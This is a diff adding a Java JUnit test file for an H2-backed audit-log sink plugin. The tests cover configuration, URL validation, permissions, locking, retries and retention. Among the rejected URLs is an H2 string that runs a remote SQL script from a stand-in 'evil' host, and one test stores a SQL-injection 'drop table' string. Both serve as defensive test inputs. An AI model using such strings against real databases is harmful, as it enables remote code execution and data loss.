@@ -1,0 +1,392 @@
+package io.gatehouse.plugin.auditjdbc;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatExceptionOfType;
+import static org.assertj.core.api.Assertions.assertThatIllegalStateException;
+
+import io.gatehouse.spi.AuditEvent;
+import io.gatehouse.spi.AuditSink;
+import io.gatehouse.spi.ConfigurationException;
+import io.gatehouse.spi.GatehousePlugin;
+import io.gatehouse.spi.Secret;
+import io.gatehouse.spi.TestContext;
+import io.gatehouse.spi.TestSettings;
+import java.io.IOException;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.nio.file.attribute.PosixFilePermissions;
+import java.sql.Connection;
+import java.sql.ResultSet;
+import java.sql.SQLException;
+import java.sql.Statement;
+import java.time.Clock;
+import java.time.Duration;
+import java.time.Instant;
+import java.time.ZoneId;
+import java.time.ZoneOffset;
+import java.util.ArrayList;
+import java.util.List;
+import java.util.Optional;
+import java.util.ServiceLoader;
+import java.util.stream.LongStream;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.condition.DisabledOnOs;
+import org.junit.jupiter.api.condition.OS;
+import org.junit.jupiter.api.io.TempDir;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
+
+class AuditJdbcSinkTest {
+
+    @TempDir
+    private Path home;
+
+    private Instant now = Events.TIME;
+    private final Clock clock = new Clock() {
+        @Override
+        public Instant instant() {
+            return now;
+        }
+
+        @Override
+        public ZoneId getZone() {
+            return ZoneOffset.UTC;
+        }
+
+        @Override
+        public Clock withZone(ZoneId zone) {
+            return this;
+        }
+    };
+
+    private final AuditJdbcSinkFactory factory = new AuditJdbcSinkFactory();
+
+    private AuditSink create(TestSettings settings) {
+        return factory.create(settings, new TestContext("local", home, clock));
+    }
+
+    private TestSettings settings() {
+        return TestSettings.of(factory);
+    }
+
+    private AuditSink create() {
+        return create(settings());
+    }
+
+    private Path file() {
+        return home.resolve("audit.mv.db");
+    }
+
+    private static List<AuditEvent> closes(long from, long to) {
+        return LongStream.rangeClosed(from, to).mapToObj(Events::close).toList();
+    }
+
+    private List<String> query(String sql) throws SQLException {
+        List<String> answers = new ArrayList<>();
+        try (Connection connection = new AuditDatabase(home.resolve("audit"), "gatehouse", Secret.of("")).open();
+                Statement statement = connection.createStatement();
+                ResultSet rows = statement.executeQuery(sql)) {
+            while (rows.next()) {
+                answers.add(rows.getString(1));
+            }
+        }
+        return answers;
+    }
+
+    @Test
+    void isFoundByTheServiceLoader() {
+        assertThat(ServiceLoader.load(GatehousePlugin.class))
+                .singleElement()
+                .satisfies(plugin -> assertThat(plugin.auditSinks())
+                        .singleElement()
+                        .extracting(found -> found.name())
+                        .isEqualTo("audit-jdbc"));
+    }
+
+    @Test
+    void hasDefaults() throws SQLException {
+        assertThat(factory.settings())
+                .extracting(setting -> setting.name() + "=" + setting.defaultValue())
+                .containsExactly(
+                        "url=Optional.empty",
+                        "user=Optional[gatehouse]",
+                        "password=Optional[***]",
+                        "retention=Optional[PT2160H]");
+        try (AuditSink sink = create()) {
+            assertThat(sink.append(closes(1, 3))).isEqualTo(3);
+        }
+        assertThat(query("select sequence from audit_event order by id")).containsExactly("1", "2", "3");
+    }
+
+    @Test
+    void mapsEverySetting() {
+        TestSettings mapped = settings()
+                .with(AuditJdbcSinkFactory.URL, "jdbc:h2:file:" + home.resolve("deep/er/events"))
+                .with(AuditJdbcSinkFactory.USER, "auditor")
+                .with(AuditJdbcSinkFactory.PASSWORD, Secret.of("hush"))
+                .with(AuditJdbcSinkFactory.RETENTION, Duration.ZERO);
+        create(mapped).close();
+        assertThat(home.resolve("deep/er/events.mv.db")).exists();
+        create(mapped).close();
+        assertThatExceptionOfType(ConfigurationException.class)
+                .isThrownBy(() -> create(mapped.with(AuditJdbcSinkFactory.PASSWORD, Secret.of("other"))))
+                .withMessage("gatehouse.yaml:1:1: database " + home.resolve("deep/er/events")
+                        + " does not take this user and password");
+        create(settings().with(AuditJdbcSinkFactory.URL, home.resolve("plain").toString()))
+                .close();
+        assertThat(home.resolve("plain.mv.db")).exists();
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "jdbc:h2:mem:x",
+                "jdbc:h2:tcp://localhost/x",
+                "jdbc:h2:~/x",
+                "jdbc:h2:file:~/x",
+                "jdbc:h2:file:/x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
+                "jdbc:h2:file:/x;AUTO_SERVER=TRUE",
+                "jdbc:h2:file:nio:/x",
+                "jdbc:h2:file:",
+                "/x;MODE=MySQL",
+                "/x/",
+                "jdbc:mysql://localhost/x",
+                ""
+            })
+    void anyOtherUrlIsAProblem(String url) {
+        assertThatExceptionOfType(ConfigurationException.class)
+                .isThrownBy(() -> create(settings().with(AuditJdbcSinkFactory.URL, url)))
+                .withMessage("gatehouse.yaml:1:1: expected jdbc:h2:file:<path>, a path without options");
+    }
+
+    @Test
+    void tellsEveryProblem() throws IOException {
+        assertThatExceptionOfType(ConfigurationException.class)
+                .isThrownBy(() -> create(settings().with(AuditJdbcSinkFactory.URL, "jdbc:postgresql://db/audit")))
+                .withMessage("gatehouse.yaml:1:1: PostgreSQL is not supported by this release;"
+                        + " expected jdbc:h2:file:<path>");
+        assertThatExceptionOfType(ConfigurationException.class)
+                .isThrownBy(() -> create(settings().with(AuditJdbcSinkFactory.RETENTION, Duration.ofMinutes(1))))
+                .withMessage("gatehouse.yaml:1:1: expected at least 1h, or 0s to keep everything");
+        assertThatExceptionOfType(ConfigurationException.class)
+                .isThrownBy(() -> create(settings().with(AuditJdbcSinkFactory.USER, "")))
+                .withMessage("gatehouse.yaml:1:1: expected a name");
+        Path noFolder = Files.writeString(home.resolve("file"), "x").resolve("audit");
+        assertThatExceptionOfType(ConfigurationException.class)
+                .isThrownBy(() -> create(settings().with(AuditJdbcSinkFactory.URL, noFolder.toString())))
+                .withMessageStartingWith("gatehouse.yaml:1:1: database " + noFolder + " can not be created: ");
+    }
+
+    @Test
+    void aDamagedDatabaseIsTold() throws IOException {
+        Files.write(file(), "no database at all ".repeat(1000).getBytes());
+        assertThatExceptionOfType(ConfigurationException.class)
+                .isThrownBy(this::create)
+                .withMessage("gatehouse.yaml:1:1: database " + home.resolve("audit")
+                        + " is damaged or not an H2 database; move it away to begin a new one");
+    }
+
+    @Test
+    void aNewerSchemaIsTold() throws SQLException {
+        create().close();
+        try (Connection connection = new AuditDatabase(home.resolve("audit"), "gatehouse", Secret.of("")).open();
+                Statement statement = connection.createStatement()) {
+            statement.execute("insert into audit_schema values (9)");
+            connection.commit();
+        }
+        assertThatExceptionOfType(ConfigurationException.class)
+                .isThrownBy(this::create)
+                .withMessage("gatehouse.yaml:1:1: database " + home.resolve("audit")
+                        + " was written by a newer release (schema 9)");
+    }
+
+    @Test
+    void anotherProcessIsKeptOut() throws Exception {
+        create().close();
+        Process other = new ProcessBuilder(
+                        Path.of(System.getProperty("java.home"), "bin", "java").toString(),
+                        "-cp",
+                        System.getProperty("java.class.path"),
+                        DatabaseHolder.class.getName(),
+                        home.resolve("audit").toString())
+                .redirectError(ProcessBuilder.Redirect.INHERIT)
+                .start();
+        try {
+            assertThat(other.getInputStream().read()).isEqualTo('L');
+            assertThatExceptionOfType(ConfigurationException.class)
+                    .isThrownBy(this::create)
+                    .withMessage(
+                            "gatehouse.yaml:1:1: database " + home.resolve("audit") + " is open in another process");
+        } finally {
+            other.destroyForcibly().waitFor();
+        }
+        try (AuditSink sink = create()) {
+            assertThat(sink.unfinished()).as("survives the end of its process").containsExactly(Events.open(1));
+        }
+    }
+
+    @Test
+    @DisabledOnOs(OS.WINDOWS)
+    void onlyTheOwnerCanReadAndNothingElseIsWritten() throws IOException {
+        Path deep = home.resolve("deep/audit");
+        try (AuditSink sink = create(settings().with(AuditJdbcSinkFactory.URL, deep.toString()))) {
+            sink.append(closes(1, 100));
+        }
+        assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(deep.getParent())))
+                .isEqualTo("rwx------");
+        try (var files = Files.list(deep.getParent())) {
+            assertThat(files)
+                    .singleElement()
+                    .satisfies(file -> assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(file)))
+                            .isEqualTo("rw-------"));
+        }
+    }
+
+    @Test
+    void everyFieldHasItsColumn() throws SQLException {
+        try (AuditSink sink = create()) {
+            sink.append(List.of(Events.close(7)));
+        }
+        assertThat(query("select event_time || ' ' || run || ' ' || sequence || ' ' || kind || ' ' || request_id || ' '"
+                        + " || user_name || ' ' || user_uid || ' ' || replace(user_groups, chr(10), ',') || ' '"
+                        + " || proof_method || ' ' || authenticator || ' ' || client_address || ' ' || target || ' '"
+                        + " || http_method || ' ' || path || ' ' || query || ' ' || protocol || ' ' || upgrade || ' '"
+                        + " || user_agent || ' ' || k8s_resource_request || ' ' || k8s_verb || ' ' || k8s_group || ' '"
+                        + " || k8s_version || ' ' || k8s_namespace || ' ' || k8s_resource || ' ' || k8s_subresource"
+                        + " || ' ' || k8s_name || ' ' || k8s_field_selector || ' ' || k8s_label_selector || ' '"
+                        + " || decision || ' ' || reason || ' ' || status || ' ' || bytes_in || ' ' || bytes_out"
+                        + " || ' ' || duration_us || ' ' || end_reason from audit_event"))
+                .containsExactly("2026-06-01 12:00:00.123456+00 run-1 7 close request-7 alice 42 dev,ops basic staff"
+                        + " 10.0.0.1 prod GET /api watch=1 HTTP/1.1  kubectl TRUE watch apps v1 zoo pods log lion a=b"
+                        + " c=d allow policy.csv:7 200 1 2 3000 complete");
+    }
+
+    @Test
+    void oddAndLongTextsAreKeptAsFarAsTheyFit() throws SQLException {
+        String odd = "\u0000a\ud800b\ud83e\udd81'; drop table audit_event; --";
+        try (AuditSink sink = create()) {
+            sink.append(List.of(
+                    Events.event(1, AuditEvent.Kind.CLOSE, "a", odd),
+                    Events.event(2, AuditEvent.Kind.CLOSE, "b", "x".repeat(70_000)),
+                    Events.event(
+                            3, AuditEvent.Kind.CLOSE, "c".repeat(500), "x".repeat(4089) + "\ud83e\udd81".repeat(9))));
+        }
+        assertThat(query("select path from audit_event order by sequence"))
+                .containsExactly(
+                        "\ufffda\ufffdb\ud83e\udd81'; drop table audit_event; --",
+                        "x".repeat(4090) + "\u2026[cut]",
+                        "x".repeat(4089) + "\ufffd\u2026[cut]");
+        assertThat(query("select request_id from audit_event where sequence = 3"))
+                .containsExactly("c".repeat(122) + "\u2026[cut]");
+    }
+
+    @Test
+    void aBatchThatIsOfferedAgainIsNotRepeated() throws SQLException {
+        try (AuditSink sink = create()) {
+            sink.append(closes(1, 10));
+        }
+        try (AuditSink sink = create()) {
+            assertThat(sink.append(closes(5, 15))).isEqualTo(15);
+        }
+        assertThat(query("select sequence from audit_event order by id"))
+                .isEqualTo(
+                        LongStream.rangeClosed(1, 15).mapToObj(Long::toString).toList());
+    }
+
+    @Test
+    void aFailedBatchLeavesNothingAndTheNextAttemptWorks() throws SQLException {
+        try (AuditSink sink = create()) {
+            sink.append(List.of(Events.open(1)));
+            try (Connection connection = new AuditDatabase(home.resolve("audit"), "gatehouse", Secret.of("")).open();
+                    Statement statement = connection.createStatement()) {
+                statement.execute("alter table audit_event add constraint no_three check (sequence <> 3)");
+                connection.commit();
+                assertThatIllegalStateException()
+                        .isThrownBy(() -> sink.append(List.of(Events.closeOf(Events.open(1), 2), Events.open(3))))
+                        .withMessage("the audit database can not be written");
+                statement.execute("alter table audit_event drop constraint no_three");
+                connection.commit();
+            }
+            assertThat(sink.unfinished()).containsExactly(Events.open(1));
+            assertThat(sink.append(List.of(Events.closeOf(Events.open(1), 2), Events.open(3))))
+                    .isEqualTo(3);
+            assertThat(sink.unfinished()).containsExactly(Events.open(3));
+        }
+        assertThat(query("select sequence from audit_event order by id")).containsExactly("1", "2", "3");
+    }
+
+    @Test
+    void opensWithoutACloseAreFound() {
+        AuditEvent bare = new AuditEvent(
+                6,
+                "run-1",
+                AuditEvent.Kind.OPEN,
+                "bare",
+                Events.TIME,
+                Optional.empty(),
+                new AuditEvent.Request("", "", "", "", "", "", "", "", Optional.empty()),
+                new AuditEvent.Verdict("allow", ""),
+                Optional.empty());
+        try (AuditSink sink = create()) {
+            sink.append(List.of(Events.open(1), Events.open(2)));
+            sink.append(List.of(Events.close(3), Events.closeOf(Events.open(1), 4), Events.open(5), bare));
+        }
+        try (AuditSink sink = create()) {
+            assertThat(sink.unfinished()).containsExactly(Events.open(2), Events.open(5), bare);
+            sink.append(List.of(Events.closeOf(Events.open(2), 7), Events.closeOf(bare, 8)));
+        }
+        try (AuditSink sink = create()) {
+            assertThat(sink.unfinished()).containsExactly(Events.open(5));
+        }
+    }
+
+    @Test
+    void aCloseThatASuccessorWroteCounts() {
+        try (AuditSink old = create();
+                AuditSink successor = create(settings().with(AuditJdbcSinkFactory.RETENTION, Duration.ZERO))) {
+            old.append(List.of(Events.open(1)));
+            successor.append(List.of(Events.closeOf(Events.open(1), 2)));
+        }
+        try (AuditSink sink = create()) {
+            assertThat(sink.unfinished()).isEmpty();
+        }
+    }
+
+    @Test
+    void oldRowsAreDeletedInSlicesBetweenBatches() throws SQLException {
+        long old = Retention.SLICE * 2L + 500;
+        try (AuditSink sink = create(settings().with(AuditJdbcSinkFactory.RETENTION, Duration.ofDays(1)))) {
+            sink.append(closes(1, old));
+            now = now.plus(Duration.ofDays(1)).plusSeconds(1);
+            for (long sequence = old + 1; sequence <= old + 3; sequence++) {
+                assertThat(sink.append(List.of(fresh(sequence)))).isEqualTo(sequence);
+            }
+        }
+        assertThat(query("select sequence from audit_event order by id"))
+                .containsExactly(Long.toString(old + 1), Long.toString(old + 2), Long.toString(old + 3));
+    }
+
+    @Test
+    void withoutARetentionEverythingStays() throws SQLException {
+        try (AuditSink sink = create(settings().with(AuditJdbcSinkFactory.RETENTION, Duration.ZERO))) {
+            sink.append(closes(1, 10));
+            now = now.plus(Duration.ofDays(10_000));
+            sink.append(closes(11, 11));
+        }
+        assertThat(query("select count(*) from audit_event")).containsExactly("11");
+    }
+
+    private AuditEvent fresh(long sequence) {
+        AuditEvent event = Events.close(sequence);
+        return new AuditEvent(
+                sequence,
+                event.run(),
+                event.kind(),
+                event.requestId(),
+                now,
+                event.subject(),
+                event.request(),
+                event.verdict(),
+                event.completion());
+    }
+}
